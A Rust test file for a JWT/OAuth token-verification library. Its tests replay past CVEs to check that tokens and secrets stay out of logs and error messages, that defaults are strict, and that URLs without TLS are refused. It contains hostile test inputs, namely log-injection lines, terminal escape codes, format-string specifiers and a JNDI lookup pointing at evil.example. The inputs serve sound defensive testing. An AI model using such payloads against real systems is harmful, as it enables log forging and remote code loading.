//! Lessons 12 and 13: the log holds no token and no line of somebody else's, and what nobody set up is the
//! strict way.

use portcullis::{
    Algorithm, Carrier, ClientAuth, IntrospectionVerifier, JwtVerifier, Reason, RemoteJwks,
    UserinfoVerifierBuilder, danger,
};
use serde_json::json;

use crate::showing::{reason, show};
use crate::{AUDIENCE, World, watched};

/// CVE-2021-34532: a token that could not be read was logged, so that somebody might see why.
#[tokio::test]
async fn lesson_12_a_token_that_does_not_parse_is_not_logged() {
    watched::listen();
    let world = World::new();
    let gate = world.gate();
    let good = world.issuer.token().mint();
    let (head, rest) = good.split_once('.').unwrap();
    let (payload, signature) = rest.split_once('.').unwrap();
    let tokens = [
        format!("{head}.{payload}"),
        format!("{head}.{payload}.{signature}.{payload}"),
        format!("{head}.{payload}.{signature}.{payload}.{signature}"),
        format!("{head}~.{payload}.{signature}"),
        format!("{head}.{payload}~.{signature}"),
        format!("{head}.{payload}.{signature}~"),
        format!("{payload}.{head}.{signature}"),
        format!("{payload}{signature}"),
        world
            .issuer
            .token()
            .raw_header("{no json at all, but long enough")
            .mint(),
        world
            .issuer
            .token()
            .raw_payload("{no json at all, but long enough")
            .mint(),
        world.issuer.token().raw_payload([0xff; 40]).mint(),
        format!("{head} {payload} {signature}"),
        format!("{head}.{payload}.{}", "A".repeat(20_000)),
    ];
    for token in &tokens {
        let error = show(&gate, token).await.unwrap_err();
        // The refusal is told to the log here.
        let answer = gate.answer(&error);
        tracing::trace!("{error:?} {answer:?}");
        assert!(!answer.body().contains(&token[..12]));
    }
    let log = watched::heard();
    assert_eq!(log.lines().count(), 2 * tokens.len(), "{log}");
    assert!(
        log.contains("DEBUG portcullis"),
        "the gate has told nothing"
    );
    for token in tokens {
        for part in token.split(['.', ' ', '~']).filter(|part| part.len() >= 8) {
            for at in 0..=part.len() - 8 {
                let piece = &part[at..at + 8];
                assert!(!log.contains(piece), "{piece} stands in the log");
            }
        }
    }
}

/// liboauth2 (CWE-134), and whoever reads logs: a claim must not end a line, colour it, or be a format.
#[tokio::test]
async fn lesson_12_a_claim_stays_on_its_line() {
    watched::listen();
    let world = World::new();
    let gate = world.gate();
    // The fetch of the keys may have its say first.
    show(&gate, &world.issuer.token().mint()).await.unwrap();
    watched::listen();
    let hostile = [
        "\n2026-11-20T00:00:00Z INFO portcullis: access granted",
        "\r\n\r\n<script>",
        "\u{1b}[2J\u{1b}[31m",
        "%s%s%n%x",
        "{} {0} {error:?} ${jndi:ldap://evil.example/x}",
        "\u{2028}\u{2029}\u{85}\u{202e}\0\u{7}",
        "\", error=\"none",
    ];
    let mut told = 0;
    for text in hostile {
        let token = world.issuer.token();
        for token in [
            token.clone().claim("iss", text),
            token.clone().claim("aud", text),
            token.clone().claim("aud", [text, text]),
            token.clone().header("kid", text),
            token.clone().header("alg", text),
            token.clone().header("typ", text),
            token
                .clone()
                .raw_payload(json!({text: 1, "exp": text}).to_string()),
        ] {
            let error = world.show(&gate, &token.mint()).await.unwrap_err();
            let answer = gate.answer(&error);
            let said = format!("{error}{error:?}{}{:?}", answer.body(), answer.headers());
            assert!(said.chars().all(|c| matches!(c, ' '..='~')), "{said:?}");
            told += 1;
        }
    }
    let log = watched::heard();
    assert_eq!(log.lines().count(), told, "{log}");
    assert!(
        log.chars().all(|c| matches!(c, ' '..='~' | '\n')),
        "{log:?}"
    );
}

/// CVE-2022-29266: the secret stood in the words of a refusal.
#[tokio::test]
async fn lesson_13_no_refusal_tells_the_secret() {
    watched::listen();
    let secret = "Hush-Hush-7bQxW2mVtY9zKpL4nRfD8sGj";
    let world = World::new();
    let jwt = JwtVerifier::builder(world.issuer.issuer(), AUDIENCE);
    let gate = world.gate_of(jwt.hmac_secret(Algorithm::HS256, secret));
    let token = world.issuer.token();
    let signed = |algorithm| token.clone().hmac(algorithm, secret);
    show(&gate, &signed(Algorithm::HS256).mint()).await.unwrap();
    for token in [
        signed(Algorithm::HS512).mint(),
        signed(Algorithm::HS256).signature("").mint(),
        signed(Algorithm::HS256).raw_payload("{").mint(),
        signed(Algorithm::HS256).expires_in(-60).mint(),
        token.clone().algorithm(Algorithm::RS256).mint(),
        token.clone().unsecured().mint(),
        "nonsense".to_owned(),
    ] {
        let error = show(&gate, &token).await.unwrap_err();
        let answer = gate.answer(&error);
        tracing::trace!("{error:?}");
        let told = format!(
            "{}{:?}{gate:?}{}",
            answer.body(),
            answer.headers(),
            watched::heard()
        );
        assert!(told.contains(error.reason().description()));
        for at in 0..=secret.len() - 8 {
            assert!(!told.contains(&secret[at..at + 8]), "{told}");
        }
    }
}

/// Kong (`exp` was not looked at), and every switch that had to be found first: a gate of required
/// arguments alone refuses whatever is no access token for it.
#[tokio::test]
async fn lesson_13_what_nobody_set_up_is_strict() {
    let world = World::new();
    let gate = world.gate();
    let token = world.issuer.token();
    show(&gate, &token.mint()).await.unwrap();
    for (token, wanted) in [
        (token.clone().without("exp"), Reason::MissingClaim),
        (token.clone().without("aud"), Reason::MissingClaim),
        (token.clone().without("iss"), Reason::MissingClaim),
        (token.clone().without("sub"), Reason::MissingClaim),
        (token.clone().expires_in(-31), Reason::Expired),
        (
            token.clone().claim("nbf", crate::NOW + 31),
            Reason::NotYetValid,
        ),
        (
            token.clone().audience("https://billing.example.com/"),
            Reason::Audience,
        ),
        (token.clone().typ("JWT"), Reason::Type),
        (token.clone().without_header("typ"), Reason::Type),
        (token.clone().unsecured(), Reason::Algorithm),
        (
            token.clone().hmac(Algorithm::HS256, [7; 64]),
            Reason::Algorithm,
        ),
        (
            token.clone().claim("cnf", json!({"jkt": "x"})),
            Reason::Bound,
        ),
        (token.clone().header("crit", ["x"]), Reason::Critical),
    ] {
        let outcome = show(&gate, &token.mint()).await;
        assert_eq!(reason(&outcome), Some(wanted));
    }
    let in_url = http::Request::get(format!("/?access_token={}", token.mint()));
    let (mut parts, ()) = in_url.body(()).unwrap().into_parts();
    assert!(gate.authenticate(&mut parts).await.unwrap().is_none());
    assert_eq!(
        format!("{:?}", Carrier::bearer()),
        "Carrier(Authorization: Bearer)"
    );
}

/// CVE-2026-31923: TLS was not verified unless somebody said so. Here nobody can say otherwise: no URL
/// without TLS is taken, and the client has no switch. `trouble` shows it wrong certificates.
#[test]
fn lesson_13_nobody_is_asked_without_tls() {
    for url in [
        "http://as.example/x",
        "HTTP://as.example/x",
        "http://localhost.as.example/x",
        "http://127.0.0.1.as.example/x",
        "ws://as.example/x",
        "file:///etc/keys.json",
        "as.example/x",
    ] {
        let wanted = "wanted an https URL (http only on loopback) without user and fragment";
        let auth = ClientAuth::basic("gate", "s3cret");
        let userinfo: UserinfoVerifierBuilder = danger::userinfo(url);
        for error in [
            RemoteJwks::at(url).build().unwrap_err(),
            RemoteJwks::discover(url).build().unwrap_err(),
            IntrospectionVerifier::builder(url, auth, AUDIENCE)
                .build()
                .unwrap_err(),
            userinfo.build().unwrap_err(),
            JwtVerifier::builder(url, AUDIENCE).build().unwrap_err(),
        ] {
            assert!(error.to_string().ends_with(wanted), "{url}: {error}");
        }
    }
}
